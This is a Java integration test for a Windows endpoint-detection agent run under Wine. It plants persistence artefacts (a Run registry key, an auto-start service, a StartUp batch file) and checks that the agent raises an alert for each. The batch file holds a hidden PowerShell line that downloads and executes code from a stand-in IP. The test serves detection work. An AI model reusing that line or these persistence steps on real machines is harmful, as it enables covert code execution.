package bzh.vigie.installers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SortedSet;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The whole line with a Windows at one end, as Wine plays it, and a collector on this Linux at the other: real certificates, what
 * plain programs do there, the alerts, and the conclusion of an incident whose eviction has just ended. The agent is that of the package, unpacked.
 */
final class WindowsLineTest {
    private static final String STATE = "C:\\vigie";
    private static final String RUN = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    private static final Duration PATIENCE = Duration.ofMinutes(4);

    @TempDir
    Path folder;

    @Test
    void whatIsPlantedOnARunningWindowsRaisesItsAlert() throws IOException, InterruptedException {
        Wine windows = Wine.fresh(folder);
        String program = WindowsPackage.unpack(windows, "Outils Vigie") + "\\vigie-agent.cmd";
        Path status = windows.prefix().resolve("drive_c/vigie/status.jsonl");
        try (Collector collector = Collector.start(folder.resolve("collector"))) {
            windows.run(
                            "wine",
                            "cmd",
                            "/c",
                            program,
                            "enrol",
                            "--state",
                            STATE,
                            "--lang",
                            "en",
                            "--token",
                            collector.token())
                    .orFail("agent enrol");
            try (Program agent = windows.start("wine", "cmd", "/c", program, "run", "--state", STATE, "--lang", "en")) {
                assertTrue(agent.until(() -> isComplete(status), PATIENCE), agent::said);
                assertTrue(collector.lines("hosts", "list").contains("\"os\\\":\\\"windows"), "hosts list");
                List<String> before = alerts(collector).stream()
                        .filter(line -> !isOfWineItself(line))
                        .toList();
                assertEquals(List.of(), before, "before anything is planted");
                String incident = evicted(windows, agent, collector);
                assertTrue(
                        agent.until(
                                () -> word(collector, incident).equals("not-observed-coverage-insufficient"), PATIENCE),
                        () -> "watched too short\n" + agent.said());
                plant(windows);
                try (Program _ = windows.start("wine", "cmd", "/c", "ping -n 30 127.0.0.1")) {
                    assertTrue(told(agent, collector, "Image=C:\\windows\\system32\\ping.exe"), agent::said);
                }
                assertTrue(told(agent, collector, "DestinationPort=" + collector.port()), agent::said);
                List<String> wanted = List.of("Planted", "PlantedService", "planted.bat");
                boolean all = agent.until(() -> named(collector, wanted).size() == wanted.size(), PATIENCE);
                assertTrue(all, () -> "alerts name only " + said(collector, wanted) + "\n" + agent.said());
                assertEquals("not-verifiable", word(collector, incident), "what was found is undecided");
            } finally {
                // What cmd started goes on when it is ended.
                windows.kill();
            }
        }
    }

    /** Wine makes services for its drivers that have no key, which no Windows does: that is told rightly. */
    private static boolean isOfWineItself(String alert) {
        return alert.contains("\"vigie-windows-service-without-key\"") && alert.contains("\\\\Services\\\\Winedevice");
    }

    /** An incident whose one artefact is taken away before its eviction ends, just now, with what is asked of people answered; its number. */
    private static String evicted(Wine windows, Program agent, Collector collector)
            throws IOException, InterruptedException {
        String opened = collector.lines("incident", "open", "Nuit", "--commune", Collector.COMMUNE, "--reason", "test");
        String incident = opened.replaceAll("(?s).*?(\\d{4}-\\d{3}).*", "$1");
        windows.run("wine", "reg", "add", RUN, "/v", "Evicted", "/d", "C:\\Users\\Public\\evicted.exe")
                .orFail("reg add");
        boolean told = agent.until(() -> !named(collector, List.of("Evicted")).isEmpty(), PATIENCE);
        assertTrue(told, agent::said);
        String mark = alerts(collector).stream()
                .filter(line -> line.contains("\"Evicted\""))
                .map(WindowsLineTest::id)
                .findFirst()
                .orElseThrow();
        collector.lines("incident", "tombstone", "add", incident, "--alert", mark, "--reason", "test");
        windows.run("wine", "reg", "delete", RUN, "/v", "Evicted", "/f").orFail("reg delete");
        Instant now = Instant.now();
        String start = now.minusSeconds(1).toString();
        collector.lines(
                "incident", "eviction", incident, "--start", start, "--end", now.toString(), "--reason", "test");
        for (String fact : List.of("domain-taken no", "authority-key-exposed no", "privileged-hosts-named yes")) {
            String[] words = fact.split(" ", -1);
            collector.lines("incident", "attest", incident, words[0], words[1], "--proof", "PV", "--reason", "test");
        }
        String host = collector.lines("hosts", "list").replaceAll("(?s).*\"id\":\"([^\"]+)\".*", "$1");
        collector.lines(
                "incident",
                "attest",
                incident,
                "privileged-code",
                "no",
                "--host",
                host,
                "--proof",
                "PV",
                "--reason",
                "test");
        // What Wine itself raised at enrolment, and the mark, is decided.
        List<String> close = new ArrayList<>(List.of("alerts", "close", "--as", "true", "--reason", "test"));
        alerts(collector).forEach(alert -> close.add(id(alert)));
        collector.lines(close.toArray(String[]::new));
        return incident;
    }

    private static String id(String alert) {
        return alert.replaceAll("(?s).*?\"id\":\"([^\"]+)\".*", "$1");
    }

    private static String word(Collector collector, String incident) throws IOException, InterruptedException {
        return collector.lines("incident", "conclude", incident).replaceAll("(?s).*\"word\":\"([^\"]+)\".*", "$1");
    }

    private static void plant(Wine windows) throws IOException, InterruptedException {
        windows.run("wine", "reg", "add", RUN, "/v", "Planted", "/d", "C:\\Users\\Public\\planted.exe")
                .orFail("reg add");
        windows.run(
                        "wine",
                        "sc",
                        "create",
                        "PlantedService",
                        "binPath=",
                        "C:\\Users\\Public\\service.exe",
                        "start=",
                        "auto")
                .orFail("sc create");
        Files.writeString(
                windows.prefix()
                        .resolve("drive_c/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/planted.bat"),
                "powershell -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\"\r\n");
    }

    /** Whether the history has an event with that field, now or soon. */
    private static boolean told(Program agent, Collector collector, String field)
            throws IOException, InterruptedException {
        return agent.until(() -> collector.lines("events", "--field", field).contains("\"kind\":\"event\""), PATIENCE);
    }

    private static boolean isComplete(Path status) throws IOException {
        return Files.exists(status) && Files.readString(status).contains("\"inventory\":\"complete\"");
    }

    private static List<String> alerts(Collector collector) throws IOException, InterruptedException {
        return collector
                .lines("alerts", "list")
                .lines()
                .filter(line -> line.startsWith("{"))
                .toList();
    }

    private static SortedSet<String> named(Collector collector, List<String> wanted)
            throws IOException, InterruptedException {
        String alerts = String.join("\n", alerts(collector));
        return wanted.stream()
                .filter(each -> alerts.contains("\"" + each + "\"") || alerts.contains("\\" + each))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    private static String said(Collector collector, List<String> wanted) {
        try {
            return named(collector, wanted) + " in\n" + String.join("\n", alerts(collector));
        } catch (IOException | InterruptedException e) {
            return e.toString();
        }
    }
}
